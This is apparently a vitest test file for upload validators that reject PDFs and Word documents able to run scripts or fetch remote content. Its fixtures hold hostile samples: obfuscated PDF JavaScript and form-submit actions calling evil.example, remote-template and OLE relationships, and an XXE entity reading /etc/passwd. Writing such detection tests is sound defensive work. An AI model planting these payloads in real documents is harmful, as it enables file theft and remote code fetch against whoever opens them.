import { deflateRawSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { docxBytes, pdfBytes, zipBytes } from '#tests/factories/files';
import { isPlainPdf } from './check-document';
import { isPlainDocx } from './check-zip';

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function relations(type: string, target: string, mode = 'TargetMode="External"') {
  const relation = `<Relationship Id="r1" Type="${OFFICE}/${type}" Target="${target}" ${mode}/>`;
  return { name: 'word/_rels/settings.xml.rels', packed: Buffer.from(`<Relationships>${relation}</Relationships>`) };
}

test('A PDF that runs, sends or fetches something is refused, however its names are written', () => {
  expect(isPlainPdf(pdfBytes())).toBe(true);
  expect(isPlainPdf(pdfBytes('<</A<</S/URI/URI(https://example.com)>>>>'))).toBe(true);
  for (const words of [
    '/JS(app.alert(1))',
    '/J#53(app.alert(1))',
    '/J#61vaScript',
    '/#4a#61#76#61Script',
    '/Submit#46orm',
    '<</S/SubmitForm/F(http://evil.example)>>',
    '<</OpenAction<</S/URI/URI(http://evil.example)>>>>',
    '<</AA<</O<</S/U#52I/URI(http://evil.example)>>>>>>',
    '<</S/GoToR/F(//evil.example/x)>>',
    '/EmbeddedFiles 4 0 R',
  ])
    expect(isPlainPdf(pdfBytes(words)), words).toBe(false);
});

test('A Word document that fetches something from elsewhere by itself is refused, a link to click at is not', () => {
  expect(isPlainDocx(docxBytes())).toBe(true);
  expect(isPlainDocx(docxBytes([relations('hyperlink', 'https://example.com')]))).toBe(true);
  expect(isPlainDocx(docxBytes([relations('image', 'media/1.png', '')]))).toBe(true);
  for (const type of ['attachedTemplate', 'oleObject', 'frame', 'subDocument', 'image'])
    expect(isPlainDocx(docxBytes([relations(type, 'http://evil.example/x.dotm')])), type).toBe(false);
  expect(isPlainDocx(docxBytes([relations('attachedTemplate', 'http://evil.example', "TargetMode = 'external'")]))).toBe(false);
});

test('A Word document with a document type, in whichever letters, is refused', () => {
  const doctype = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x/>';
  for (const packed of [Buffer.from(doctype), Buffer.from(`\ufeff${doctype}`, 'utf16le')])
    expect(isPlainDocx(docxBytes([{ name: 'word/settings.xml', packed }]))).toBe(false);
});

test('A zip that says another size or name than it holds, or a name twice, is refused', () => {
  const packed = Buffer.from('<x/>');
  expect(isPlainDocx(docxBytes([{ name: 'word/styles.xml', packed, unpackedSize: 400 }]))).toBe(false);
  expect(isPlainDocx(docxBytes([{ name: 'word/styles.xml', packed, unpackedSize: 2 }]))).toBe(false);
  expect(isPlainDocx(docxBytes([{ name: 'word/document.xml', packed }]))).toBe(false);
  const lying = zipBytes([{ name: '[Content_Types].xml' }, { name: 'word/document.xml' }]);
  lying[30] = 'X'.charCodeAt(0);
  expect(isPlainDocx(lying)).toBe(false);
});

test('A Word document as Word writes it, packed, is taken', () => {
  const text = Buffer.from(`<w:document>${'<w:p>Certificate</w:p>'.repeat(40)}</w:document>`);
  const bytes = docxBytes([{ name: 'word/styles.xml', packed: deflateRawSync(text), unpackedSize: text.length }]);
  // The factory stores; both places that name the method say "deflated".
  const local = bytes.lastIndexOf('word/styles.xml', bytes.lastIndexOf(Buffer.from('504b0102', 'hex'))) - 30;
  bytes.writeUInt16LE(8, local + 8);
  bytes.writeUInt16LE(8, bytes.lastIndexOf(Buffer.from('504b0102', 'hex')) + 10);
  expect(isPlainDocx(bytes)).toBe(true);
});
